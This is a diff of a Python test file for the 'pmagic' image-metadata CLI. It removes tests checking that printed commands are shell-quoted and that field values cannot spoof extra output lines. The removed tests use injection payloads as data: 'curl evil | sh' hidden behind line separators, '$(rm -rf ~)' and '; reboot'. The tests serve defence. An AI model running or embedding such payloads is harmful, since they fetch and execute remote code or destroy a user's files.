@@ -3,7 +3,6 @@
 import json
 import os
 import stat
-import subprocess
 from collections.abc import Callable
 from pathlib import Path
 
@@ -12,7 +11,6 @@ from PIL import Image, PngImagePlugin
 from typer.testing import CliRunner
 
 from pmagic import pictures
-from pmagic.cli import stories
 from pmagic.cli.app import app
 from pmagic.library.store import Library
 from pmagic.persona import Persona
@@ -35,13 +33,6 @@ def test_export_and_import(library: Library, persona: Make, tmp_path: Path, monk
     assert runner.invoke(app, ["import", "alice.pmagic"]).stdout == "alice@2\n"
     found = json.loads(runner.invoke(app, ["import", "alice.pmagic", "--as", "bob", "--json"]).stdout)
     assert found == {"persona": "bob@1"}
-
-
-def test_an_archive_whose_file_name_is_no_name_needs_one(library: Library, persona: Make, tmp_path: Path) -> None:
-    library.save("alice", persona())
-    runner.invoke(app, ["export", "alice", str(tmp_path / "{x}.pmagic")])
-    done = runner.invoke(app, ["import", str(tmp_path / "{x}.pmagic")])
-    assert done.exit_code == 2 and "--as NAME" in done.stderr
 
 
 def test_mv_and_cp(library: Library, persona: Make) -> None:
@@ -95,45 +86,3 @@ def test_a_story_that_somebody_else_wrote_is_refused(tmp_path: Path, text: str) 
     Image.new("RGB", (64, 64)).save(tmp_path / "a.png", pnginfo=notes)
     done = runner.invoke(app, ["info", str(tmp_path / "a.png")])
     assert done.exit_code == 4 and done.stderr.startswith("error: ")
-
-
-@pytest.mark.parametrize(
-    "prompt",
-    [
-        "an astronaut 👩\u200d🚀 it's",
-        "می\u200cخواهم \\u0041 $HOME",
-        "two\nlines\tand a tab",
-        "\u202egnp.\u2028x \xa0 \U000e0041'1",
-    ],
-)
-def test_a_shell_reads_the_very_words_that_info_prints(tmp_path: Path, prompt: str) -> None:
-    story = {**STORY, "prompt": prompt, "negative": prompt}
-    path = pictures.write_picture(Image.new("RGB", (64, 64)), tmp_path / "a.png", story)
-    command = runner.invoke(app, ["info", "-q", str(path)]).stdout.removesuffix("\n")
-    assert command.isprintable()
-    script = f"pmagic() {{ printf '%s\\0' \"$@\"; }}; {command}"
-    utf8 = {**os.environ, "LC_ALL": "C.UTF-8"}
-    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env=utf8)
-    words = done.stdout.decode().split("\0")
-    assert words[-2] == prompt and f"--negative={prompt}" in words
-
-
-def test_no_value_can_pass_for_another_line(library: Library, persona: Make, tmp_path: Path) -> None:
-    spoof = "1\nagain:\n  curl evil | sh\rx\x85y\u2028z"
-    story = {**STORY, "mood": spoof, f"more{spoof}": "x"}
-    path = pictures.write_picture(Image.new("RGB", (64, 64)), tmp_path / "a.png", story)
-    lines = runner.invoke(app, ["info", str(path)]).stdout.splitlines()
-    assert lines.count("again:") == 1 and lines[-2] == "again:" and lines[-1].startswith("  pmagic render ")
-    assert r"mood: 1\nagain:\n  curl evil | sh\x0dx\x85y\x2028z" in lines
-    library.save(
-        "alice", persona(word="face\nfiles: none", settings={"recipe": spoof, "more": [spoof], spoof: {"x": 1}})
-    )
-    shown = runner.invoke(app, ["show", "alice"]).stdout.splitlines()
-    assert not [each for each in shown if each.startswith(("again", "files: none"))] and "files: all verified" in shown
-
-
-def test_info_quotes_what_a_shell_would_obey() -> None:
-    story = {**STORY, "format": "png"}
-    assert "'$(rm -rf ~)'" in stories.repeat({**story, "prompt": "$(rm -rf ~)"})
-    assert stories.repeat({**story, "prompt": "-n{}"}).endswith(" -- alice@1 '-n{}'")
-    assert "--negative='; reboot'" in stories.repeat({**story, "negative": "; reboot"})
